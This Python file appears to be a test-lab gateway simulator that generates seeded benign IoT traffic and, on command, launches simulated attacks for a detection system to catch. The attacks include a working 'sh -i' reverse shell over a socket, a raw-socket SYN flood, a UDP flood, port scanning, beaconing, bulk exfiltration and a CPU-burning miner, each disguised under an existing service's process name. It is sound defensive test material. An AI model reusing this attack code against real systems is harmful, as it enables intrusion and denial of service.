"""The gateway of the noisy-gateway lab (tests/src/lab.rs).

Runs as PID 1 of the gateway's own network, PID and mount namespaces. Reads one JSON command per
line on stdin; end of input ends it, and with it every process of the namespace.

  {"cmd": "start", "seed": N, "scale": S, "lan": [...], "cloud": {...}, "dns": A, "ntp": A}
      starts the benign services (seeded, randomised; S scales every period)
  {"cmd": "attack", "name": NAME, "comm": COMM, "args": {...}}
      starts one attack process named COMM (a name the gateway already uses)

The same file is re-executed for each service and attack (`--role NAME`), so each has its own
process and name. Every loop is bounded in time (`--until`) and every transfer in size; nothing
here connects to an address the lab did not give it.
"""
import ctypes, json, os, random, signal, socket, struct, subprocess, sys, threading, time

HERE = os.path.abspath(__file__)
MAX_RUN = 4 * 3600


def set_comm(name):
    try:
        ctypes.CDLL(None).prctl(15, name.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def die_with_parent():
    try:
        ctypes.CDLL(None).prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
    except Exception:
        pass


def sleep_until(t):
    d = t - time.time()
    if d > 0:
        time.sleep(d)


def connect(addr, timeout=2.0):
    return socket.create_connection(tuple(addr), timeout=timeout)


def recv_exact(s, n):
    got = 0
    while got < n:
        d = s.recv(min(65536, n - got))
        if not d:
            break
        got += len(d)
    return got


def send_paced(s, total, rate, until):
    """Sends `total` bytes at about `rate` bytes/s in 16 KiB chunks."""
    chunk = b"u" * 16384
    t0 = time.time()
    sent = 0
    while sent < total and time.time() < until:
        n = min(len(chunk), total - sent)
        s.sendall(chunk[:n])
        sent += n
        sleep_until(t0 + sent / rate)
    return sent


# ---------------------------------------------------------------- services (roles)

def role_edge_agent(cfg, rng, until):
    """The cloud agent: one MQTT-like session with keep-alives and publishes, reconnecting now
    and then; HTTPS-like polls of the API endpoints."""
    sc = cfg["scale"]
    cloud = cfg["cloud"]

    def mqtt():
        while time.time() < until:
            try:
                s = connect(cloud["mqtt"])
                life = time.time() + rng.uniform(20, 45) * sc
                while time.time() < min(life, until):
                    n = rng.choice([2, 2, 60, 200, rng.randint(100, 1500)])
                    s.sendall(struct.pack("!H", n) + b"p" * n)
                    recv_exact(s, 2)
                    time.sleep(rng.uniform(0.5, 3.0))
                s.close()
            except OSError:
                pass
            time.sleep(rng.uniform(0.2, 2.0))

    def api():
        while time.time() < until:
            try:
                s = connect(rng.choice(cloud["api"]))
                want = rng.randint(200, 24000)
                s.sendall(b"GET %d\n" % want + b"h" * rng.randint(100, 600))
                recv_exact(s, want)
                s.close()
            except OSError:
                pass
            time.sleep(rng.expovariate(1 / (2.5 * sc)))

    threading.Thread(target=mqtt, daemon=True).start()
    api()


def role_fw_update(cfg, rng, until):
    """Firmware-size downloads now and then."""
    sc = cfg["scale"]
    time.sleep(rng.uniform(2, 8))
    while time.time() < until:
        try:
            s = connect(cfg["cloud"]["firmware"])
            size = rng.randint(2, 12) << 20
            s.sendall(b"GET %d\n" % size)
            recv_exact(s, size)
            s.close()
        except OSError:
            pass
        time.sleep(rng.uniform(20, 45) * sc)


def role_log_shipper(cfg, rng, until):
    """Log uploads, paced like a gateway's uplink."""
    sc = cfg["scale"]
    time.sleep(rng.uniform(3, 12))
    while time.time() < until:
        try:
            s = connect(cfg["cloud"]["logs"])
            send_paced(s, rng.randint(512 << 10, 4 << 20), rng.uniform(1, 3) * (1 << 20), until)
            s.shutdown(socket.SHUT_WR)
            s.recv(16)
            s.close()
        except OSError:
            pass
        time.sleep(rng.uniform(15, 35) * sc)


def role_modbus_poll(cfg, rng, until):
    """Polls the LAN sensors, round robin, a short connection each."""
    while time.time() < until:
        for a in rng.sample(cfg["lan"], len(cfg["lan"])):
            try:
                s = connect(a, 1)
                s.sendall(b"r" * 12)
                s.recv(256)
                s.close()
            except OSError:
                pass
            time.sleep(rng.uniform(0.05, 0.4))
        time.sleep(rng.uniform(0.2, 1.5))


def role_broker(cfg, rng, until):
    """The local broker: LAN devices connect in, publish, reconnect."""
    srv = socket.socket(socket.AF_INET6)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("::", 1883))
    srv.listen(64)
    srv.settimeout(0.5)

    def serve(c):
        c.settimeout(5)
        try:
            while time.time() < until:
                d = c.recv(4096)
                if not d:
                    break
                c.sendall(b"a")
        except OSError:
            pass
        c.close()

    while time.time() < until:
        try:
            c, _ = srv.accept()
        except OSError:
            continue
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def role_web_ui(cfg, rng, until):
    """A local web UI the LAN polls now and then."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", 8080))
    srv.listen(64)
    srv.settimeout(0.5)
    while time.time() < until:
        try:
            c, _ = srv.accept()
        except OSError:
            continue
        try:
            c.settimeout(2)
            c.recv(1024)
            c.sendall(b"w" * rng.randint(500, 6000))
        except OSError:
            pass
        c.close()


def role_resolver(cfg, rng, until):
    """DNS and NTP over UDP."""
    sc = cfg["scale"]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    next_ntp = time.time() + rng.uniform(1, 5)
    while time.time() < until:
        for _ in range(rng.choice([1, 1, 2, 4, 8])):
            s.sendto(b"q" * rng.randint(30, 60), tuple(cfg["dns"]))
            try:
                s.recv(512)
            except OSError:
                pass
        if time.time() >= next_ntp:
            s.sendto(b"n" * 48, tuple(cfg["ntp"]))
            try:
                s.recv(512)
            except OSError:
                pass
            next_ntp = time.time() + rng.uniform(8, 30) * sc
        time.sleep(rng.expovariate(1 / 1.5))


def role_cron(cfg, rng, until):
    """Cron: short-lived jobs now and then."""
    sc = cfg["scale"]
    jobs = [
        ["sh", "-c", "date >/dev/null; cat /proc/loadavg >/dev/null"],
        ["sh", "-c", "df >/dev/null 2>&1; sleep 0.3"],
        ["sh", "-c", "head -c 3000000 /dev/zero | gzip -c >/dev/null"],
        ["sh", "-c", "ls /proc >/dev/null; sleep 0.2"],
        ["sleep", "0.5"],
        [sys.executable, "-c", "import json,time; json.dumps(list(range(20000))); time.sleep(0.2)"],
    ]
    while time.time() < until:
        for j in rng.sample(jobs, rng.randint(1, 3)):
            try:
                subprocess.Popen(j, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except OSError:
                pass
        time.sleep(rng.uniform(3, 12) * sc)


SERVICES = {
    "edge-agent": role_edge_agent,
    "fw-update": role_fw_update,
    "log-shipper": role_log_shipper,
    "modbus-poll": role_modbus_poll,
    "broker": role_broker,
    "web-ui": role_web_ui,
    "resolver": role_resolver,
    "crond": role_cron,
}
# Services that restart now and then (a new process of the same name, the same ports).
RESTARTING = ["edge-agent", "broker", "web-ui", "modbus-poll"]


# ---------------------------------------------------------------- attacks

def attack_listener(a, until):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", a["port"]))
    s.listen(1)
    sleep_until(until)


def attack_udp_flood(a, until):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(tuple(a["target"]))
    b = b"f" * 1200
    n = 0
    while time.time() < until and n < 2_000_000:
        try:
            s.send(b)
        except OSError:
            pass
        n += 1


def attack_fanout(a, until):
    held = []
    for t in a["targets"]:
        try:
            held.append(connect(t, 1))
        except OSError:
            pass
    sleep_until(until)


def attack_scan_out(a, until):
    host = a["host"]
    for p in range(a["first"], a["last"]):
        if time.time() >= until:
            break
        s = socket.socket()
        s.settimeout(0.2)
        try:
            s.connect((host, p))
        except OSError:
            pass
        s.close()


def attack_reverse_shell(a, until):
    s = connect(a["target"], 2)
    p = subprocess.Popen(["sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    s.close()
    sleep_until(until)
    p.kill()


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def attack_syn_flood(a, until):
    """Crafted SYNs (a raw socket, as hping3 does) to a closed port; the RSTs come back."""
    src, (dst, port) = a["source"], a["target"]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sa, da = socket.inet_aton(src), socket.inet_aton(dst)
    rate = a.get("rate", 3000)
    t0 = time.time()
    i = 0
    while time.time() < until and i < 1_000_000:
        h = struct.pack("!HHIIBBHHH", 1024 + (i % 60000), port, i, 0, 5 << 4, 0x02, 64240, 0, 0)
        ph = sa + da + struct.pack("!BBH", 0, 6, len(h))
        h = h[:16] + struct.pack("!H", checksum(ph + h)) + h[18:]
        s.sendto(h, (dst, 0))
        i += 1
        if i % 50 == 0:
            sleep_until(t0 + i / rate)


def attack_miner(a, until):
    x = 1
    while time.time() < until:
        for i in range(20000):
            x = (x * 6364136223846793005 + i) & 0xFFFFFFFFFFFFFFFF


def attack_beacon(a, until):
    while time.time() < until:
        t = time.time()
        try:
            s = connect(a["target"], 1)
            s.sendall(b"b" * 100)
            s.recv(256)
            s.close()
        except OSError:
            pass
        sleep_until(t + a.get("period", 1.0))


def attack_exfil(a, until):
    s = connect(a["target"], 2)
    send_paced(s, 64 << 20, a.get("rate", 2 << 20), until)
    s.close()


ATTACKS = {
    "listener": attack_listener,
    "udp_flood": attack_udp_flood,
    "fanout": attack_fanout,
    "scan_out": attack_scan_out,
    "reverse_shell": attack_reverse_shell,
    "syn_flood": attack_syn_flood,
    "miner": attack_miner,
    "beacon": attack_beacon,
    "exfil": attack_exfil,
}


# ---------------------------------------------------------------- supervisor

def spawn(kind, name, comm, payload):
    return subprocess.Popen(
        [sys.executable, HERE, "--" + kind, name, comm, json.dumps(payload)],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def supervisor():
    set_comm("init")
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    procs = {}
    lock = threading.Lock()

    def reaper():
        while True:
            try:
                os.waitpid(-1, 0)
            except ChildProcessError:
                time.sleep(0.2)
            except OSError:
                time.sleep(0.2)

    def restarts(cfg, rng):
        sc = cfg["scale"]
        while True:
            time.sleep(rng.uniform(25, 50) * sc)
            name = rng.choice(RESTARTING)
            with lock:
                old = procs.get(name)
                if old:
                    old.kill()
            time.sleep(rng.uniform(0.3, 1.5))
            with lock:
                procs[name] = spawn("role", name, name, dict(cfg, seed=rng.randrange(1 << 30)))

    threading.Thread(target=reaper, daemon=True).start()
    for line in sys.stdin:
        try:
            c = json.loads(line)
        except ValueError:
            continue
        if c["cmd"] == "start":
            rng = random.Random(c["seed"])
            with lock:
                for name in SERVICES:
                    procs[name] = spawn("role", name, name, dict(c, seed=rng.randrange(1 << 30)))
            threading.Thread(target=restarts, args=(c, random.Random(rng.random())), daemon=True).start()
        elif c["cmd"] == "attack":
            spawn("attack", c["name"], c["comm"], c["args"])
    # End of input: returning ends PID 1, and the kernel ends the namespace's other processes.


def main():
    if len(sys.argv) >= 5 and sys.argv[1] in ("--role", "--attack"):
        kind, name, comm, payload = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4])
        set_comm(comm)
        die_with_parent()
        if kind == "--role":
            until = time.time() + MAX_RUN
            SERVICES[name](payload, random.Random(payload["seed"]), until)
        else:
            until = time.time() + min(float(payload.get("secs", 8)), 60)
            ATTACKS[name](payload, until)
        return
    supervisor()


if __name__ == "__main__":
    main()
